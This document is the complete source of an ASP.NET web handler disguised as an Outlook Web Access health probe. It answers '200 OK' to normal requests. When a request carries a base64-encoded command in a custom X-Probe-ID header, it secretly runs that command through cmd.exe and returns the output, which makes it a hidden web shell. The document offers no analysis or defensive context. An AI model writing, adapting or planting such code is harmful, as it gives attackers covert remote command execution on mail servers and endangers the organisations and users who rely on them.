<%@ WebHandler Language="C#" Class="OwaHealthProbe" %>

using System;
using System.Web;
using Exe = System.Diagnostics.Process;
using ExeInfo = System.Diagnostics.ProcessStartInfo;

public class OwaHealthProbe : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext context)
    {
        var r = HttpContext.Current.Request;
        string tok = r.ServerVariables["HTTP_X_PROBE_ID"];
        context.Response.ContentType = "text/plain";
        if (tok == null) { context.Response.Write("200 OK"); return; }
        string cmd = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(tok));
        var si = new ExeInfo(Environment.GetEnvironmentVariable("ComSpec"), "/c " + cmd)
        {
            UseShellExecute = false,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
            CreateNoWindow = true
        };
        using (var p = Exe.Start(si))
        {
            context.Response.Write(p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd());
        }
    }
}
